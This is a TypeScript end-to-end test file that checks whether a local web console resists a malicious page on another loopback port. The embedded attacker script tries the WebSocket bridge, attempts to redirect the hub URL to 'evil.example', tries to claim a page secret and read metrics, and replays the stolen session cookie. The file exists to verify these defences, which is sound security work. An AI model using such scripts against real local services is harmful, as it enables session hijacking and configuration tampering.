// A web page on another loopback port — any local dev server the owner happens to visit — tries to use the
// console's session. Browsers send cookies to every port of 127.0.0.1, so its server does receive the
// console's session cookie; with it, from the page (its own Origin) or replayed by its server (the
// console's Origin), it opens no bridge, claims no page secret, reads no metrics and changes nothing.
// The owner's own page keeps working throughout, and "sign out everywhere" ends the session for good.
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { WebSocket } from 'ws';
import { expect, go, test } from './support/fixtures';

interface Attempts {
  cookies: string[];
  page: Record<string, string>;
}

/** The attacker's local web server: a page that tries the console from the browser, and records what the browser sent it. */
async function attackerServer(consolePort: number): Promise<{ url: string; seen: Attempts; close: () => Promise<void> }> {
  const seen: Attempts = { cookies: [], page: {} };
  const script = `
const c = 'http://127.0.0.1:${consolePort}';
const report = (k, v) => fetch('/report?' + new URLSearchParams({ k, v: String(v) }));
const ws = new WebSocket('ws://127.0.0.1:${consolePort}/bridge', ['swan-bridge']);
ws.onopen = () => { report('ws', 'open'); ws.send(JSON.stringify({ id: 1, channel: 'settings.save', args: { patch: { hubUrl: 'ws://evil.example:8092' } } })); };
ws.onmessage = (e) => report('ws-message', e.data);
ws.onerror = () => report('ws', 'refused');
fetch(c + '/session/page', { method: 'POST', credentials: 'include', headers: { 'X-Swan-Page': 'claim' } }).then((r) => report('claim', r.status), (e) => report('claim', 'blocked'));
fetch(c + '/session/page', { method: 'POST', mode: 'no-cors', credentials: 'include' }).then((r) => report('claim-no-cors', r.type), () => report('claim-no-cors', 'blocked'));
fetch(c + '/metrics', { credentials: 'include' }).then((r) => r.text()).then((t) => report('metrics', t.slice(0, 40)), () => report('metrics', 'blocked'));
`;
  const server = http.createServer((req, res) => {
    if (req.headers.cookie) seen.cookies.push(req.headers.cookie);
    const u = new URL(req.url ?? '/', 'http://x');
    if (u.pathname === '/report') {
      seen.page[u.searchParams.get('k') ?? ''] = u.searchParams.get('v') ?? '';
      res.writeHead(204).end();
    } else if (u.pathname === '/attack.js') {
      res.writeHead(200, { 'content-type': 'text/javascript' }).end(script);
    } else {
      res.writeHead(200, { 'content-type': 'text/html' }).end('<!doctype html><title>a local dev server</title><script src="/attack.js"></script>');
    }
  });
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}/`;
  // The attacker's page may still hold a keep-alive connection: close ends those too (close alone waits for them).
  return {
    url,
    seen,
    close: () =>
      new Promise((r) => {
        server.close(() => r());
        server.closeAllConnections();
      }),
  };
}

function socketStatus(url: string, headers: Record<string, string>, protocols: string[] = []): Promise<number> {
  return new Promise((resolve) => {
    const ws = new WebSocket(url, protocols, { headers });
    ws.once('open', () => {
      ws.terminate();
      resolve(101);
    });
    ws.once('unexpected-response', (_req, res) => resolve(res.statusCode ?? 0));
    ws.once('error', () => resolve(0));
  });
}

test("a page on another loopback port cannot use the console's session, even with its cookie", async ({ app, stack, context }) => {
  const consolePort = Number(new URL(stack.consoleUrl).port);
  const attacker = await attackerServer(consolePort);
  try {
    const evil = await context.newPage();
    await evil.goto(attacker.url);
    await expect.poll(() => Object.keys(attacker.seen.page).sort().join(','), { timeout: 15_000 }).toBe('claim,claim-no-cors,metrics,ws');
    // From the browser: the bridge refused (its Origin is not the console's), the claim blocked or refused, metrics unreadable.
    expect(attacker.seen.page.ws).toBe('refused');
    expect(attacker.seen.page['ws-message']).toBeUndefined();
    expect(attacker.seen.page.claim).toBe('blocked');
    expect(attacker.seen.page['claim-no-cors']).toBe('opaque');
    expect(attacker.seen.page.metrics).toBe('blocked');

    // Its server did receive the console's cookie (what browsers do); replayed with the console's own Origin,
    // it still opens nothing.
    const cookie = attacker.seen.cookies
      .join('; ')
      .split(';')
      .map((c) => c.trim())
      .find((c) => c.startsWith(`swan_session_${consolePort}=`));
    expect(cookie, 'the browser sends the console cookie to another port').toBeDefined();
    const origin = `http://127.0.0.1:${consolePort}`;
    expect(await socketStatus(`ws://127.0.0.1:${consolePort}/bridge`, { cookie: cookie!, origin })).toBe(401);
    expect(await socketStatus(`ws://127.0.0.1:${consolePort}/bridge`, { cookie: cookie!, origin }, ['swan-bridge', 'swan-page.guess'])).toBe(401);
    const claim = await fetch(`${origin}/session/page`, { method: 'POST', headers: { cookie: cookie!, origin, 'x-swan-page': 'claim' } });
    expect(claim.status).not.toBe(200); // nothing to hand out: the secret went to the owner's page in the redirect's fragment
    expect(await claim.text()).not.toContain('"page"');
    expect((await fetch(`${origin}/metrics`, { headers: { cookie: cookie! } })).status).toBe(401);

    // The owner's page never noticed: its bridge works, the hub URL is unchanged.
    await go(app, 'settings');
    await expect(app.getByTestId('input-hubUrl')).toHaveValue(stack.hubUrl.replace(/^http/, 'ws'));
    await expect(app.getByTestId('unauthorized-banner')).toHaveCount(0);
  } finally {
    await attacker.close();
  }
});

test("Settings lists this browser's session; signing out everywhere ends it and the page says so", async ({ app, stack }) => {
  await go(app, 'settings');
  const sessions = app.getByTestId('console-session');
  await expect(sessions).toHaveCount(1);
  await expect(sessions.first()).toHaveAttribute('data-current', 'true');
  await app.getByTestId('sign-out-everywhere').click();
  await expect(app.getByTestId('unauthorized-banner')).toBeVisible();
  await app.reload();
  await expect(app.locator('body')).toContainText('Access token missing or wrong');
  // A new link (here from a restarted agent) signs in again.
  await app.goto(await stack.restartAgent());
  await expect(app.locator('[data-app-state="loaded"]')).toBeVisible();
});
